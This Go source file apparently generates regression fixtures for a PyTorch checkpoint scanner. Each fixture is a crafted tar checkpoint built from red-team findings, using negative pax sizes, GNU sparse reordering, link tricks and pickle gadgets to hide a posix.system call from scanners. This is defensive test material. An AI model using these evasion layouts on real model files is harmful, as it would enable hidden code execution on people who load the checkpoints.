package torch

import (
	"encoding/binary"
	"slices"
)

// tarCraftedFiles are the red-team round 3 (F1) tar checkpoints torch
// would execute, each a regression file of testdata/crafted: a scan that
// reads them differently from torch and tarfile says invalid, not
// dangerous. The payload members carry the header gadget (bytes 500..511)
// that steers a walker over the whole file past them.
func tarCraftedFiles() []craftedEntry {
	p := systemPickle()
	sys := []string{"posix.system"}
	tn, at := tarTensorsOnePickle()
	e := func(name, attack, entry string, offset int, data []byte) craftedEntry {
		return craftedEntry{Name: name, Class: "container-polyglot", Attack: attack, ScanVerdict: "dangerous", Globals: sys,
			Entry: entry, Offset: off(offset), Convert: "refuse", ConvertErr: "not allowed", data: data}
	}
	sparse, sparseAt := tarSparseOverwrite()
	self, selfAt := tarSymlinkSelfFD()
	return []craftedEntry{
		e("tar_neg_pax_size_legacy_polyglot.pt",
			"byte 0 is both a complete, valid legacy checkpoint (magic, protocol, a sys_info BINSTRING spanning the tar bytes, an object of one ByteStorage, keys, the storage) and a pax 'x' header whose size field is base-256 -1: tarfile before gh-130577 rounds _block(-1) to 0, reads no records and lists the next header, member storages, which torch extracts and unpickles: posix.system",
			"tar member storages", 2, tarNegPaxPolyglot()),
		e("tar_neg_pax_size.tar",
			"a pax 'x' header of size -1 (base-256) before the members: tarfile before gh-130577 reads no records and lists storages, posix.system",
			"tar member storages", 2, tarNegCases()[0]),
		e("tar_neg_member_size_storages.tar",
			"member storages has size -1 (base-256): tarfile lists the next header right after its header, and tar.extract (copyfileobj of a negative length) copies 16383 bytes from there: that header's name is a text pickle calling posix.system",
			"tar member storages", 0, tarNegStorages()),
		e("tar_pax_sparse01_storages_reorder.tar",
			"member storages in the pax GNU sparse format 0.1 (GNU.sparse.map): stored as [G | P], G a PROTO 2 and BINBYTES8 swallowing P for a reader of the stored data; the map writes G at offset len(P) and P at offset 0, so tar.extract gives P first: posix.system",
			"tar member storages (sparse, as extracted)", 0, tarPaxSparseReorder("0.1")),
		e("tar_pax_sparse10_storages_reorder.tar",
			"the same reordering in the pax GNU sparse format 1.0: the map is text at the start of the member's data, which moves the data offset past it",
			"tar member storages (sparse, as extracted)", 0, tarPaxSparseReorder("1.0")),
		e("tar_pax_sparse00_storages_reorder.tar",
			"the same reordering in the pax GNU sparse format 0.0 (GNU.sparse.offset and numbytes records)",
			"tar member storages (sparse, as extracted)", 0, tarPaxSparseReorder("0.0")),
		e("tar_sparse_storages_overwrite.tar",
			"member storages is old GNU sparse with two runs at offset 0: tar.extract (TarFile.makefile) writes them in turn, so the second, a count pickle running posix.system, overwrites the first, a benign count; the original size keeps the first run's tail (the views pickle, then a BINBYTES swallowing the second run for a reader of the stored data). _FileInFile (extractfile) reads the first run",
			"tar member storages (sparse, as extracted)", sparseAt, sparse),
		{Name: "tar_symlink_storages_selffd.tar", Class: "container-polyglot", ScanVerdict: "dangerous", Globals: slices.Concat(sys, []string{"<tar-link>./proc/self/fd/3"}),
			Attack: "member storages is a symbolic link to /proc/self/fd/3: tar.extract makes the link and torch reads the checkpoint itself from byte 0 as storages: the count and storage-argument pickles in the first header's name, the numel after them, raw bytes over the header and a BINBYTES gadget, then the views pickle posix.system. Any link of storages or tensors out of the archive is reported as the not-allowed <tar-link>",
			Entry:  "tar checkpoint read from byte 0 as member storages (through a link out of the archive)", Offset: off(selfAt),
			Convert: "refuse", ConvertErr: "not allowed", data: self},
		e("tar_tensors_one_pickle_per_record.tar",
			"member tensors as torch's legacy_load reads it: one pickle (key, storage id, tensor type) per record, then int32 ndim, 4 ignored bytes, sizes, strides, storage offset; the ignored bytes are a STOP and a BINBYTES swallowing the second record's argument pickle, posix.system, for a reader expecting two pickles per record",
			"tar member tensors", at,
			cat(ustarMember("storages", tarStorages1), ustarMember("tensors", tn), ustarMember("pickle", hPickle("}")), tarEnd)),
		e("tar_longname_outside_pax_path.tar",
			"a GNU long name 'pickle', then a pax header path=decoy, then the member: tarfile applies the pax record to the member first and the long name last, so torch unpickles it as 'pickle': posix.system",
			"tar member pickle", 2, tarBase(gnuLong("L", "pickle"), paxTyp("x", "path=decoy"), gadgetMember("other", p))),
		e("tar_pax_path_trailing_slash.tar",
			"a pax record path=pickle/ on a regular member: tarfile strips the trailing slash, torch unpickles it as 'pickle': posix.system",
			"tar member pickle", 2, tarBase(paxTyp("x", "path=pickle/"), gadgetMember("decoy", p))),
		e("tar_hardlink_normpath_pickle.tar",
			"'pickle' is a hard link to './payload': extractfile follows it to the member whose os.path.normpath name matches (searching the members before the link): posix.system",
			"tar member pickle (link to payload)", 2, tarBase(gadgetMember("payload", p), tarLink("pickle", "1", "./payload"))),
		e("tar_symlink_pickle.tar",
			"'pickle' is a symbolic link to 'payload': extractfile follows it inside the archive: posix.system",
			"tar member pickle (link to payload)", 2, tarBase(gadgetMember("payload", p), tarLink("pickle", "2", "payload"))),
		e("tar_symlink_chain_pickle.tar",
			"'pickle' is a symbolic link to 'd/x', a symbolic link (resolved from its directory) to a hard link 'd/h' to 'd/payload': posix.system",
			"tar member pickle (link to d/payload)", 2,
			tarBase(gadgetMember("d/payload", p), tarLink("d/h", "1", "d/./payload"), tarLink("d/x", "2", "h"), tarLink("pickle", "2", "d/x"))),
	}
}

// tarSparseOverwrite is the red-team A1 layout: "storages" is an old GNU
// sparse member whose two runs both start at offset 0. It returns the
// file and the offset of posix.system in the extracted content.
func tarSparseOverwrite() ([]byte, int) {
	d2 := cat(0x80, 2, systemCall, "0K\x00.")                          // runs the payload, returns count 0
	a := cat(0x80, 2, hStr(repeat("a", len(systemCall)-5)), "0K\x00.") // count 0, as long
	d1 := cat(a, hPickle("]"), 0x80, 2, "B", le32(uint32(len(d2))))    // views [], then a gadget
	stored := cat(d1, d2)
	hdr := sparseHdr("storages", int64(len(stored)), int64(len(d1)), [][2]int64{{0, int64(len(d1))}, {0, int64(len(d2))}}, false)
	return cat(hdr, pad512(stored), ustarMember("tensors", tarTensors0), ustarMember("pickle", hPickle("}")), tarEnd), 2
}

// tarSymlinkSelfFD is the red-team A2 layout: "storages" is a symlink to
// /proc/self/fd/3, and the file read from byte 0 is a storages stream. It
// returns the file and the offset of posix.system in it.
func tarSymlinkSelfFD() ([]byte, int) {
	pay := systemPickle()
	name0 := cat("I1\n.", "(S'k'\nS'cpu'\nctorch\nFloatStorage\nt.")
	p0 := len(name0) + 8 // the storage's raw bytes start here
	pre := cat(0x80, 2, "B", le32(uint32(64+len(pay))))
	pre = append(pre, make([]byte, 64-len(pre)-7)...)
	at := tarBlock + len(pre)
	for (at-p0)%4 != 0 || ((at-p0)/4)&0xff != 0x90 { // no NUL ends the name early
		pre = append(pre, 0)
		at++
	}
	binary.LittleEndian.PutUint32(pre[3:], uint32(len(pre)-7+len(pay)+16)) // the gadget swallows the payload
	body := cat(pre, pay, make([]byte, 80))
	h := ustarHdr("x", len(body), "0", "")
	clear(h[:100])
	copy(h, cat(name0, binary.LittleEndian.AppendUint64(nil, uint64((at-p0)/4))))
	setTarChecksum(h, false)
	return cat(h, pad512(body), tarLink("storages", "2", "/proc/self/fd/3"), tarEnd), at + 2
}

// tarNegPaxPolyglot is the red-team round 5 P3 layout: a legacy
// checkpoint whose first block is a pax header of size -1.
func tarNegPaxPolyglot() []byte {
	magic := cat(0x80, 2, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, ".")
	proto := cat(0x80, 2, "M", 0xe9, 0x03, ".")
	storages := ustarMember("storages", systemPickle())
	start := len(magic) + len(proto) + 3 + 4
	pre := cat(magic, proto, 0x80, 2, "B", le32(uint32(tarBlock+len(storages)-start)))
	h := tarHdr(false, 100, "0000644", 156, "x")
	copy(h, pre)
	h = negSize(h, -1)
	obj := cat(0x80, 2, "}", hStr("w"), "ctorch._utils\n_rebuild_tensor_v2\n(",
		"(", hStr("storage"), "ctorch\nByteStorage\n", hStr("0"), hStr("cpu"), "K\x10Nt", "Q",
		"K\x00K\x10\x85K\x01\x85\x89ccollections\nOrderedDict\n)Rtq\x00Rs.")
	keys := cat(0x80, 2, "]", hStr("0"), "a.")
	return cat(h, storages, ".", obj, keys, le64(16), make([]byte, 16))
}

// tarNegStorages: member storages of size -1, then a header whose name is
// a text pickle (tar.extract copies 16383 bytes from that header on).
func tarNegStorages() []byte {
	call := "cposix\nsystem\n(S'true'\ntR."
	return cat(negSize(ustarHdr("storages", 0, "0", ""), -1), ustarMember(call, make([]byte, tarCopyBuf)),
		ustarMember("tensors", tarTensors0), ustarMember("pickle", hPickle("}")), tarEnd)
}

// tarPaxSparseReorder is the red-team round 5 P1 layout in a pax GNU
// sparse format: the extracted storages starts with the payload, stored
// after a gadget that swallows it.
func tarPaxSparseReorder(format string) []byte {
	call := []byte("cposix\nsystem\n(S'true'\ntR.")
	g := cat(0x80, 2, 0x8e, le64(uint64(len(call))))
	m := [][2]int64{{int64(len(call)), int64(len(g))}, {0, int64(len(call))}}
	return cat(paxSparse(format, "storages", len(call)+len(g), m, cat(g, call)),
		ustarMember("tensors", tarTensors0), ustarMember("pickle", hPickle("}")), tarEnd)
}
